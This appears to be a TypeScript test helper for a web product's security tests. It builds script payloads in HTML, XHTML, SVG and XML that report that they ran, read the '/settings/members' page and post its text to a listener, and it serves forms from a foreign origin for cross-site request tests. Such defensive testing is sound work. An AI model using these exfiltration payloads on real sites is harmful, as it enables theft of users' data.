// A page of an attacker, which tries to run scripts at the product's address.
import { createServer } from 'node:http';
import { listen } from './listen.ts';

const XHTML = 'http://www.w3.org/1999/xhtml';

/** Reports to the listener that it runs, and the text of a page for members. */
const scriptTo = (listener: string): string =>
  `fetch('${listener}/ran',{method:'POST',mode:'no-cors',body:document.contentType});` +
  `fetch('/settings/members').then(function(answer){return answer.text()})` +
  `.then(function(text){fetch('${listener}/read',{method:'POST',mode:'no-cors',body:text})})`;

/** Documents that run a script where a browser recognizes their type, by name. */
export function listAttacks(listener: string): Record<'html' | 'xhtml' | 'svg' | 'xml', string> {
  const script = scriptTo(listener);
  return {
    html: `<html><body><script>${script}</script></body></html>`,
    xhtml: `<html xmlns="${XHTML}"><body><script>${script}</script></body></html>`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
    xml: `<order><x:script xmlns:x="${XHTML}">${script}</x:script></order>`,
  };
}

export interface Form {
  method: 'get' | 'post';
  action: string;
  fields: Record<string, string>;
}

export interface ForeignPage {
  url: string;
  /** The address of the page with a form. */
  pageWith(form: Form): string;
  /** The scripts' reports: the path, and the beginning of the text. */
  told: string[];
  stop(): Promise<void>;
}

/** Serves pages with one form and one button. */
export async function startForeignPage(): Promise<ForeignPage> {
  const told: string[] = [];
  const server = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://foreign.example');
    if (request.method === 'GET') {
      response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      const form = searchParams.get('form');
      response.end(form === null ? '' : renderForm(JSON.parse(form) as Form));
      return;
    }
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      told.push(`${pathname} ${Buffer.concat(chunks).toString().slice(0, 200)}`);
      response.end();
    });
  });
  const url = await listen(server);
  return {
    url,
    told,
    pageWith: (form) => `${url}/page?form=${encodeURIComponent(JSON.stringify(form))}`,
    stop: async () => {
      const closed = new Promise((resolve) => server.close(resolve));
      server.closeAllConnections();
      await closed;
    },
  };
}

const escape = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

const renderForm = ({ method, action, fields }: Form): string => `<!doctype html>
<form method="${method}" action="${escape(action)}">
${Object.entries(fields)
  .map(([name, value]) => `<input name="${escape(name)}" value="${escape(value)}">`)
  .join('\n')}
<button>Send</button>
</form>`;
